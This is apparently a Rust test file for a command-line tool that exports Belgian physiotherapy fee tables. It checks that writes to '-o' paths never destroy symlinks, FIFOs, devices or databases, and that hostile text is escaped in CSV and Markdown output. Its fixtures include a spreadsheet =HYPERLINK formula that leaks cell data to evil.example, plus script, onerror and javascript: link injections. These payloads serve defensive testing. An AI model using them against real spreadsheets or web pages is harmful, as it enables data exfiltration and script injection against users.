//! Hostile outputs (issue 20): what the tool writes must not destroy what
//! stands at `-o PATH`, nor carry a document's text into a spreadsheet as a
//! formula or into a Markdown page as HTML or a `javascript:` link.
//!
//! The hostile document is the 2024 table with its `(*)` note and a
//! heading changed, imported as the table of 2025: every export, diff and
//! report between the two carries them.

mod common;

use std::os::unix::fs::{FileTypeExt, MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

/// The note of the 2024 table, as printed under its rows.
const NOTE: &str = "(*) se référer à l'article 4, § 1er de la convention nationale";
/// A note that is a spreadsheet formula, HTML and two `javascript:` links.
const HOSTILE_NOTE: &str = r#"=HYPERLINK("http://evil.example/?"&B2,"voir") <img src=x onerror=alert(1)> [voir](javascript:alert(1)) <javascript:alert(2)>"#;
/// A heading of the 2024 table, and one with a script and a link.
const HEADING: &str = "I. a) Prestations effectuées au cabinet du kinésithérapeute, situé en dehors d'un hôpital ou d'un service médical organisé";
const HOSTILE_HEADING: &str =
    "I. a) Prestations <script>alert(3)</script> au cabinet ![logo](javascript:alert(4))";

/// A repository with the 2024 table and, as the table of 2025, the same
/// table with the hostile note and heading.
fn hostile_repo() -> tempfile::TempDir {
    let repo = common::imported_repo();
    let text = std::fs::read_to_string(common::seed_table()).unwrap();
    assert!(text.contains(NOTE) && text.contains(HEADING));
    let hostile = text
        .replace(NOTE, &format!("(*) {HOSTILE_NOTE}"))
        .replace(HEADING, HOSTILE_HEADING)
        .replace("01-01-2024", "01-01-2025")
        .replace("1er janvier 2024", "1er janvier 2025");
    let docs = tempfile::tempdir().unwrap();
    let table = docs.path().join("tarifs-kine-2025-01-01.fr.txt");
    std::fs::write(&table, hostile).unwrap();
    common::tariffs(repo.path())
        .arg("import")
        .arg(&table)
        .assert()
        .success();
    repo
}

/// Runs `tariffs` in `dir`, killing it (and failing) if it has not ended
/// within a minute: writing into a FIFO nobody reads used to hang.
fn run_bounded(dir: &Path, args: &[&str], output: &Path) -> Output {
    let mut child = Command::new(assert_cmd::cargo::cargo_bin("tariffs"))
        .current_dir(dir)
        .args(args)
        .arg("-o")
        .arg(output)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let (start, limit) = (Instant::now(), Duration::from_secs(60));
    while child.try_wait().unwrap().is_none() {
        if start.elapsed() > limit {
            child.kill().unwrap();
            panic!("tariffs {args:?} -o {} did not end", output.display());
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    child.wait_with_output().unwrap()
}

fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

/// Every command line that writes a file with `-o`.
const WRITERS: [&[&str]; 6] = [
    &["export", "--format", "csv"],
    &["export", "--format", "json"],
    &["export", "--format", "jsonl"],
    &["export", "--format", "sqlite"],
    &["report", "2024-01-01", "2025-01-01"],
    &["report", "2024-01-01", "2025-01-01", "--format", "markdown"],
];

/// The names in a folder, sorted.
fn names(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

/// Something that is not a regular file, made at a path, and how to tell
/// it is still there, untouched.
struct NotAFile {
    what: &'static str,
    make: fn(&Path) -> bool,
    intact: fn(&Path) -> bool,
}

fn made(status: std::io::Result<std::process::ExitStatus>) -> bool {
    status.is_ok_and(|s| s.success())
}

/// The file a symbolic link at `out` points to (beside it).
fn link_target(out: &Path) -> PathBuf {
    out.with_file_name("pointed-to.txt")
}

const NOT_FILES: [NotAFile; 4] = [
    NotAFile {
        what: "symbolic link",
        make: |out| {
            std::fs::write(link_target(out), "keep me").unwrap();
            std::os::unix::fs::symlink(link_target(out), out).unwrap();
            true
        },
        intact: |out| {
            std::fs::read_link(out).is_ok_and(|t| t == link_target(out))
                && std::fs::read_to_string(link_target(out)).unwrap() == "keep me"
        },
    },
    NotAFile {
        what: "FIFO",
        make: |out| made(Command::new("mkfifo").arg(out).status()),
        intact: |out| std::fs::symlink_metadata(out).is_ok_and(|m| m.file_type().is_fifo()),
    },
    NotAFile {
        // The null device's numbers, made here: `/dev/null` itself is not
        // risked. Needs root (CI runs as root); skipped elsewhere.
        what: "character device",
        make: |out| {
            made(
                Command::new("mknod")
                    .arg(out)
                    .args(["c", "1", "3"])
                    .status(),
            )
        },
        intact: |out| {
            std::fs::symlink_metadata(out)
                .is_ok_and(|m| m.file_type().is_char_device() && m.rdev() == libc::makedev(1, 3))
        },
    },
    NotAFile {
        what: "folder",
        make: |out| std::fs::create_dir(out).is_ok(),
        intact: |out| out.is_dir() && std::fs::read_dir(out).unwrap().next().is_none(),
    },
];

#[test]
fn no_writer_replaces_a_symlink_a_fifo_a_device_or_a_folder() {
    let repo = hostile_repo();
    for not_a_file in &NOT_FILES {
        for args in WRITERS {
            let dir = tempfile::tempdir().unwrap();
            let out = dir.path().join("out");
            if !(not_a_file.make)(&out) {
                eprintln!("SKIPPED: cannot make a {} here", not_a_file.what);
                continue;
            }
            let before = names(dir.path());
            let done = run_bounded(repo.path(), args, &out);
            let what = format!("{args:?} -o {}", not_a_file.what);
            assert_eq!(done.status.code(), Some(2), "{what}: {}", stderr(&done));
            assert!(
                stderr(&done).contains("not a regular file"),
                "{what}: {}",
                stderr(&done)
            );
            assert!((not_a_file.intact)(&out), "{what}: the target was touched");
            assert_eq!(names(dir.path()), before, "{what}: files were left beside");
        }
    }
}

#[test]
fn a_regular_file_is_replaced_whole_and_keeps_its_permissions() {
    let repo = hostile_repo();
    for args in WRITERS {
        let dir = tempfile::tempdir().unwrap();
        let out = dir.path().join("out");
        std::fs::write(&out, "old").unwrap();
        std::fs::set_permissions(&out, std::fs::Permissions::from_mode(0o640)).unwrap();
        let done = run_bounded(repo.path(), args, &out);
        assert_eq!(done.status.code(), Some(0), "{args:?}: {}", stderr(&done));
        let written = std::fs::read(&out).unwrap();
        assert!(written.len() > 1000, "{args:?}: {} bytes", written.len());
        let mode = std::fs::metadata(&out).unwrap().permissions().mode();
        assert_eq!(mode & 0o777, 0o640, "{args:?}: the file's permissions");
        assert_eq!(
            names(dir.path()),
            ["out"],
            "{args:?}: files were left beside"
        );
    }
}

#[test]
fn a_bare_file_name_is_written_in_the_current_folder() {
    let repo = common::imported_repo();
    for _ in 0..2 {
        common::tariffs(repo.path())
            .args(["export", "--format", "sqlite", "-o", "out.sqlite"])
            .assert()
            .code(0);
    }
    let db = rusqlite::Connection::open(repo.path().join("out.sqlite")).unwrap();
    let codes: i64 = db
        .query_row("SELECT count(*) FROM codes", [], |r| r.get(0))
        .unwrap();
    assert!(codes > 100, "{codes} codes");
}

#[test]
fn a_missing_folder_is_a_write_error() {
    let repo = hostile_repo();
    for args in WRITERS {
        let out = repo.path().join("no such folder/out");
        let done = run_bounded(repo.path(), args, &out);
        assert_eq!(done.status.code(), Some(2), "{args:?}: {}", stderr(&done));
        assert!(
            stderr(&done).contains("no such folder"),
            "{}",
            stderr(&done)
        );
    }
}

/// A file system of 4 KiB (one page, which the old file takes) mounted on
/// a temporary folder, unmounted when dropped; `None` where mounting is not
/// allowed (it needs root).
struct SmallDisk(tempfile::TempDir);

impl SmallDisk {
    fn mount() -> Option<SmallDisk> {
        let dir = tempfile::tempdir().unwrap();
        let mounted = Command::new("mount")
            .args(["-t", "tmpfs", "-o", "size=4k", "tmpfs"])
            .arg(dir.path())
            .stderr(Stdio::null())
            .status();
        made(mounted).then_some(SmallDisk(dir))
    }
}

impl Drop for SmallDisk {
    fn drop(&mut self) {
        let _ = Command::new("umount").arg(self.0.path()).status();
    }
}

#[test]
fn a_full_disk_is_exit_2_and_leaves_the_file_as_it_was() {
    let repo = hostile_repo();
    let Some(disk) = SmallDisk::mount() else {
        eprintln!("SKIPPED: cannot mount a small file system here");
        return;
    };
    for args in WRITERS {
        let out = disk.0.path().join("out");
        std::fs::write(&out, "old").unwrap();
        let done = run_bounded(repo.path(), args, &out);
        assert_eq!(done.status.code(), Some(2), "{args:?}: {}", stderr(&done));
        assert!(
            stderr(&done).contains("No space left") || stderr(&done).contains("full"),
            "{args:?}: {}",
            stderr(&done)
        );
        assert_eq!(std::fs::read_to_string(&out).unwrap(), "old", "{args:?}");
        assert_eq!(names(disk.0.path()), ["out"], "{args:?}: files were left");
    }
}

fn sqlite_export(repo: &Path, out: &Path) -> Output {
    run_bounded(repo, &["export", "--format", "sqlite"], out)
}

fn marker(conn: &rusqlite::Connection) -> rusqlite::Result<String> {
    conn.query_row("SELECT what FROM marker", [], |r| r.get(0))
}

#[test]
fn a_database_another_connection_writes_through_its_wal_is_not_replaced() {
    let repo = hostile_repo();
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("tariffs.sqlite");
    assert_eq!(sqlite_export(repo.path(), &db).status.code(), Some(0));
    // Another program works on the database: its last commit is in the
    // write-ahead log beside it, not yet in the file.
    let other = rusqlite::Connection::open(&db).unwrap();
    let mode: String = other
        .query_row("PRAGMA journal_mode = WAL", [], |r| r.get(0))
        .unwrap();
    assert_eq!(mode, "wal");
    other
        .execute_batch("CREATE TABLE marker (what TEXT); INSERT INTO marker VALUES ('mine');")
        .unwrap();
    assert!(dir.path().join("tariffs.sqlite-wal").exists());

    let done = sqlite_export(repo.path(), &db);
    assert_eq!(done.status.code(), Some(2), "{}", stderr(&done));
    assert!(stderr(&done).contains("in use"), "{}", stderr(&done));
    assert_eq!(marker(&other).unwrap(), "mine");
    let fresh = rusqlite::Connection::open(&db).unwrap();
    assert_eq!(marker(&fresh).unwrap(), "mine", "the database is untouched");
}

#[test]
fn a_database_held_open_elsewhere_keeps_its_data_when_replaced() {
    let repo = hostile_repo();
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("tariffs.sqlite");
    assert_eq!(sqlite_export(repo.path(), &db).status.code(), Some(0));
    let other = rusqlite::Connection::open(&db).unwrap();
    other
        .execute_batch("CREATE TABLE marker (what TEXT); INSERT INTO marker VALUES ('mine');")
        .unwrap();

    let done = sqlite_export(repo.path(), &db);
    assert_eq!(done.status.code(), Some(0), "{}", stderr(&done));
    // The other program still reads the file it opened; the path names the
    // new export.
    assert_eq!(marker(&other).unwrap(), "mine");
    let fresh = rusqlite::Connection::open(&db).unwrap();
    assert!(marker(&fresh).is_err(), "a new database at the path");
    let codes: i64 = fresh
        .query_row("SELECT count(*) FROM codes", [], |r| r.get(0))
        .unwrap();
    assert!(codes > 100, "{codes} codes");
}

// ------------------------------------------------------------------- CSV

/// The characters that make a spreadsheet read a cell as a formula.
fn is_formula(cell: &str) -> bool {
    let negative_number = cell
        .strip_prefix('-')
        .is_some_and(|n| n.parse::<rust_decimal::Decimal>().is_ok() && !n.starts_with(['-', '+']));
    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && !negative_number
}

/// The CSV a command prints: its header and records.
fn csv_of(out: &Output) -> (csv::StringRecord, Vec<csv::StringRecord>) {
    let mut csv = csv::Reader::from_reader(&out.stdout[..]);
    let header = csv.headers().unwrap().clone();
    (header, csv.records().map(Result::unwrap).collect())
}

/// Every cell of a column.
fn column(out: &Output, name: &str) -> Vec<String> {
    let (header, records) = csv_of(out);
    let col = header.iter().position(|h| h == name).unwrap();
    records.iter().map(|r| r[col].to_string()).collect()
}

#[test]
fn export_csv_neutralises_formulas_and_csv_raw_keeps_them() {
    let repo = hostile_repo();
    let export = |extra: &[&str]| {
        let out = common::tariffs(repo.path())
            .args(["export", "--format", "csv", "--date", "2025-01-01"])
            .args(extra)
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
        out
    };
    let guarded = export(&[]);
    let notes = column(&guarded, "fee_note");
    assert!(notes.contains(&format!("'{HOSTILE_NOTE}")));
    let (_, records) = csv_of(&guarded);
    for cell in records.iter().flat_map(|r| r.iter()) {
        assert!(!is_formula(cell), "a formula cell: {cell}");
    }
    // Ordinary values are as they were.
    assert!(column(&guarded, "fee").contains(&"25.60".to_string()));

    let raw = export(&["--csv-raw"]);
    assert!(column(&raw, "fee_note").contains(&HOSTILE_NOTE.to_string()));
}

#[test]
fn diff_csv_neutralises_formulas_and_csv_raw_keeps_them() {
    let repo = hostile_repo();
    let diff = |extra: &[&str]| {
        let out = common::tariffs(repo.path())
            .args(["diff", "2024-01-01", "2025-01-01", "--format", "csv"])
            .args(extra)
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
        out
    };
    let guarded = diff(&[]);
    assert!(column(&guarded, "new").contains(&format!("'{HOSTILE_NOTE}")));
    assert!(column(&guarded, "old").contains(&NOTE[4..].to_string()));
    let (_, records) = csv_of(&guarded);
    for cell in records.iter().flat_map(|r| r.iter()) {
        assert!(!is_formula(cell), "a formula cell: {cell}");
    }
    let raw = diff(&["--csv-raw"]);
    assert!(column(&raw, "new").contains(&HOSTILE_NOTE.to_string()));
}

#[test]
fn csv_raw_is_refused_with_another_format() {
    let repo = common::imported_repo();
    common::tariffs(repo.path())
        .args(["export", "--format", "json", "--csv-raw"])
        .assert()
        .code(2)
        .stderr(predicates::str::contains("--csv-raw"));
}

// -------------------------------------------------------------- Markdown

/// Markdown as a CommonMark renderer (with GitHub's tables) turns it into
/// HTML: raw HTML in the text passes through, as it does on most sites.
fn rendered(markdown: &str) -> String {
    let parser = pulldown_cmark::Parser::new_ext(markdown, pulldown_cmark::Options::ENABLE_TABLES);
    let mut html = String::new();
    pulldown_cmark::html::push_html(&mut html, parser);
    html
}

/// Neither the Markdown nor the page it renders to holds HTML or a
/// `javascript:` link from the document; the document's text still reads.
fn assert_inert(what: &str, markdown: &str) {
    for raw in ["<img", "<script", "](javascript:", "<javascript:"] {
        // `\](javascript:` is the bracket escaped: text, not a link.
        let live = markdown
            .match_indices(raw)
            .any(|(at, _)| !markdown[..at].ends_with('\\'));
        assert!(!live, "{what}: the Markdown holds `{raw}`");
    }
    let html = rendered(markdown);
    for live in ["<img", "<script", "href=\"javascript:", "src=\"javascript:"] {
        assert!(!html.contains(live), "{what}: the page holds `{live}`");
    }
    assert!(
        html.contains("&lt;img src=x onerror=alert(1)&gt; [voir](javascript:alert(1))"),
        "{what}: the note reads as the document printed it: {html}"
    );
    assert!(
        html.contains("&lt;script&gt;alert(3)&lt;/script&gt;"),
        "{what}: the heading reads as printed"
    );
    assert!(
        markdown.contains(&NOTE[4..]),
        "{what}: ordinary text is not escaped"
    );
}

#[test]
fn markdown_report_and_diff_carry_no_html_and_no_javascript_link() {
    let repo = hostile_repo();
    let run = |args: &[&str]| {
        let out = common::tariffs(repo.path()).args(args).output().unwrap();
        assert!(out.status.code() != Some(2), "{args:?}: {}", stderr(&out));
        String::from_utf8(out.stdout).unwrap()
    };
    let report = run(&["report", "2024-01-01", "2025-01-01", "--format", "markdown"]);
    assert_inert("report", &report);
    let diff = run(&["diff", "2024-01-01", "2025-01-01", "--format", "markdown"]);
    assert_inert("diff", &diff);
    // The HTML report escaped them already: it stays so.
    let page = run(&["report", "2024-01-01", "2025-01-01"]);
    assert!(!page.contains("<img src=x") && !page.contains("<script>alert"));
}
